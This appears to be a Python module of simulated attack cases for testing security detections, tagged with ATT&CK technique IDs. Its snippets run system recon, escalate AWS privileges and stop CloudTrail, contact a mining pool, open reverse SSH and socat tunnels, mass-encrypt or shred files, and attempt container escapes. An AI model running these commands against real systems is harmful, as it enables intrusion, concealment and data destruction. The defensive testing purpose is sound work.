"""Looking around, asking the cloud, mining, tunnels, encrypting files, and ways out of the container."""

from __future__ import annotations

from attacks.cases.acts.base import HIGH, Act
from live.programs import Language

_LOOKS = ["id", "whoami", "uname -a", "hostname", "ps aux", "env"]
RECON = (
    Act(
        "scan-python",
        "ports_scanned",
        "T1046",
        Language.PYTHON,
        """
import os, socket
tried = 0
for port in range(20, 120):
    with socket.socket() as probe:
        tried += probe.connect_ex((os.environ["HOST"], port)) != 0
print("closed:", tried > 80)
""",
        "closed: True",
        in_cell=True,
    ),
    Act(
        "recon-shell",
        "recon_burst",
        "T1082",
        Language.BASH,
        "; ".join(f"{line} > /dev/null && echo seen {line.split()[0]}" for line in _LOOKS),
        "seen env",
        in_cell=True,
    ),
    Act(
        "recon-python",
        "recon_burst",
        "T1082",
        Language.PYTHON,
        f"""
import subprocess
for line in {_LOOKS!r}:
    print("seen", line if subprocess.run(line.split(), capture_output=True).returncode == 0 else "nothing")
""",
        "seen env",
        in_cell=True,
    ),
    Act(
        "recon-perl",
        "recon_burst",
        "T1082",
        Language.PERL,
        f"for (qw({' '.join(x.split()[0] for x in _LOOKS)})) {{ print 'seen ', $_ if `$_` }}",
        "seen env",
    ),
    Act(
        "recon-files",
        "recon_burst",
        "T1082",
        Language.BASH,
        "cat /etc/passwd; head -n 1 /proc/version; more /etc/os-release < /dev/null; ps > /dev/null; id -u",
        "root:",
        in_cell=True,
    ),
)


def _asked(
    name: str, rule: str, technique: str, service: str, operation: str, arguments: str = "", severity: int = 3
) -> Act:
    line = f"$PYTHON $AWS {service} {operation} {arguments}"
    method = "".join(word.title() for word in operation.split("-"))
    return Act(
        name,
        rule,
        technique,
        Language.BASH,
        line,
        f"done: {method}",
        f"operation:{method}",
        severity=severity,
        in_cell=True,
    )


CLOUD = (
    _asked("cloud-access-key", "iam_changed_by_command", "T1098", "iam", "create-access-key", "--user-name x"),
    _asked(
        "cloud-attach-policy",
        "iam_changed_by_command",
        "T1098",
        "iam",
        "attach-role-policy",
        "--role-name x --policy-arn arn:aws:iam::aws:policy/AdministratorAccess",
    ),
    _asked("cloud-secrets-listed", "secrets_listed_by_command", "T1555.006", "secretsmanager", "list-secrets"),
    _asked(
        "cloud-parameters-listed",
        "secrets_listed_by_command",
        "T1555.006",
        "ssm",
        "get-parameters-by-path",
        "--path /prod",
    ),
    _asked(
        "cloud-presigned-domain",
        "studio_controlled_by_command",
        "T1550.001",
        "sagemaker",
        "create-presigned-domain-url",
        "--domain-id d-123456789012 --user-profile-name other",
    ),
    _asked(
        "cloud-profile-changed",
        "studio_controlled_by_command",
        "T1098",
        "sagemaker",
        "update-user-profile",
        "--domain-id d-123456789012 --user-profile-name other",
    ),
    _asked(
        "cloud-user-made",
        "cognito_changed_by_command",
        "T1136.003",
        "cognito-idp",
        "admin-create-user",
        "--user-pool-id eu-west-1_x --username x",
    ),
    _asked(
        "cloud-trail-stopped",
        "trail_disabled_by_command",
        "T1562.008",
        "cloudtrail",
        "stop-logging",
        "--name x",
        HIGH,
    ),
    Act(
        "cloud-recon",
        "cloud_recon_burst",
        "T1580",
        Language.BASH,
        """
for asked in "sts get-caller-identity" "iam list-users" "iam list-roles" "kms list-keys"; do
    $PYTHON $AWS $asked
done
""",
        "done: ListKeys",
        "operation:ListUsers",
        in_cell=True,
    ),
)
_POOL = '"{\\"id\\": 1, \\"method\\": \\"mining.subscribe\\"}\\n"'
MINING = (
    Act(
        "mine-c-arguments",
        "miner",
        "T1496",
        Language.C,
        f"""
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int count, char **argv) {{
    char pool[80];
    snprintf(pool, sizeof pool, "stratum+tcp://%s:%s", getenv("HOST"), getenv("PORT"));
    if (count == 1) execl(argv[0], "python3", "-o", pool, "-u", "wallet", (char *)0);
    struct sockaddr_in peer = {{.sin_family = AF_INET, .sin_port = htons(atoi(strrchr(argv[2], ':') + 1))}};
    int net = socket(AF_INET, SOCK_STREAM, 0);
    inet_aton(getenv("HOST"), &peer.sin_addr);
    if (connect(net, (void *)&peer, sizeof peer)) return 1;
    dprintf(net, {_POOL});
    puts("subscribed");
}}
""",
        "subscribed",
        "mining.subscribe",
        severity=HIGH,
    ),
    Act(
        "mine-by-name",
        "miner",
        "T1496",
        Language.BASH,
        "cp $(command -v nc.openbsd) xmrig; echo '\"mining.authorize\"' | ./xmrig -N $HOST $PORT && echo sent",
        "sent",
        "mining.authorize",
        severity=HIGH,
        programs=("nc.openbsd",),
        in_cell=True,
    ),
    Act(
        "mine-python-script",
        "miner",
        "T1496",
        Language.BASH,
        """
cat > train.py <<'END'
import socket, sys
host, port = sys.argv[2].removeprefix("stratum+tcp://").split(":")
socket.create_connection((host, int(port))).sendall(b'{"method": "mining.submit"}')
print("submitted")
END
$PYTHON train.py -o stratum+tcp://$HOST:$PORT
""",
        "submitted",
        "mining.submit",
        severity=HIGH,
        in_cell=True,
    ),
)
_SSH = "-o BatchMode=yes -o StrictHostKeyChecking=no -p $PORT x@$HOST"
TUNNELS = (
    Act(
        "tunnel-ssh-back",
        "tunnel_ssh",
        "T1572",
        Language.BASH,
        f"timeout 2 ssh -N -R 9022:localhost:22 {_SSH}; echo over $?",
        "over",
        "SSH-2.0",
        programs=("ssh", "user-name"),
        in_cell=True,
    ),
    Act(
        "tunnel-ssh-option",
        "tunnel_ssh",
        "T1572",
        Language.BASH,
        f"timeout 2 ssh -f -N -oDynamicForward=127.0.0.1:0 {_SSH}; echo over $?",
        "over",
        "SSH-2.0",
        programs=("ssh", "user-name"),
    ),
    Act(
        "tunnel-by-arguments",
        "tunnel_program",
        "T1572",
        Language.BASH,
        "cp $(command -v socat) relay; (exec -a relay ./relay -u EXEC:'echo from-the-tunnel' TCP:$HOST:$PORT)\n"
        "cp relay chisel; ./chisel -u EXEC:'echo from-the-tunnel' TCP:$HOST:$PORT && echo sent",
        "sent",
        "from-the-tunnel",
        programs=("socat",),
        in_cell=True,
    ),
)
_TREE = "mkdir tree; for n in $(seq 1 20); do seq 1 $((n * 50)) > tree/$n.csv; done\n"
_LEFT = "\necho left: $(ls tree/*.csv 2>/dev/null | wc -l)"


def _encrypts(name: str, loop: str, *programs: str) -> Act:
    return Act(
        name,
        "many_files_encrypted",
        "T1486",
        Language.BASH,
        f"{_TREE}for f in tree/*.csv; do {loop}; done{_LEFT}",
        "left: 0",
        severity=HIGH,
        programs=programs,
        in_cell=True,
    )


ENCRYPTING = (
    _encrypts("encrypt-openssl", "openssl enc -aes-256-cbc -k x -in $f -out $f.locked 2>/dev/null && rm $f", "openssl"),
    _encrypts(
        "encrypt-gpg",
        "gpg --homedir . -q --batch --s2k-count 1024 --passphrase x --pinentry-mode loopback -c $f && rm $f",
        "gpg",
    ),
    _encrypts("encrypt-zip", "zip -q -m -P x $f.zip $f", "zip"),
    _encrypts("encrypt-shred", "shred -u $f", "shred"),
    Act(
        "encrypt-in-process",
        "many_files_encrypted",
        "T1486",
        Language.PYTHON,
        """
import os, pathlib
for number in range(60):
    path = pathlib.Path(f"data-{number}.csv")
    path.write_text("1,2,3\\n" * 500)
    path.write_bytes(bytes(a ^ b for a, b in zip(path.read_bytes(), os.urandom(3000))))
    path.rename(f"data-{number}.csv.locked")
print("left:", len(list(pathlib.Path().glob("*.csv"))))
""",
        "left: 0",
        severity=HIGH,
        unseen="ordinary files are not watched, and nothing is executed for each",
    ),
)
ESCAPES = (
    Act(
        "escape-mount",
        "escape_attempt",
        "T1611",
        Language.BASH,
        "unshare -rm sh -c 'mount -t tmpfs none /mnt && echo mounted it'",
        "mounted it",
        programs=("unshare",),
        in_cell=True,
    ),
    Act(
        "escape-setns",
        "escape_attempt",
        "T1611",
        Language.C,
        """
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>

int main(void) {
    if (unshare(CLONE_NEWUSER | CLONE_NEWUTS)) return 1;
    puts(setns(open("/proc/self/ns/uts", O_RDONLY), CLONE_NEWUTS) ? "failed" : "joined it");
}
""",
        "joined it",
    ),
    Act(
        "escape-container-socket",
        "container_socket",
        "T1611",
        Language.BASH,
        """
$PYTHON -c '
import socket, os
door = socket.socket(socket.AF_UNIX)
door.bind("docker.sock"), door.listen()
os.close(os.open("ready", os.O_CREAT))
guest, _ = door.accept()
print(guest.recv(100)), guest.sendall(b"HTTP/1.0 200 OK\\r\\n\\r\\ncontainers")
' &
until [ -e ready ]; do sleep 0.1; done
curl -s --unix-socket "$PWD/docker.sock" http://x/containers/json
wait
""",
        "containers",
        programs=("curl",),
        in_cell=True,
    ),
    Act(
        "escape-core-pattern",
        "escape_by_command",
        "T1611",
        Language.BASH,
        "bash -c 'echo \"|/tmp/x\" > /proc/sys/kernel/core_pattern' || echo tried it",
        "tried it",
        in_cell=True,
    ),
    Act(
        "escape-enter-first",
        "escape_by_command",
        "T1611",
        Language.BASH,
        "nsenter -t 1 -m -p true || echo tried it",
        "tried it",
        programs=("nsenter",),
        in_cell=True,
    ),
)
CASES: tuple[Act, ...] = (*RECON, *CLOUD, *MINING, *TUNNELS, *ENCRYPTING, *ESCAPES)
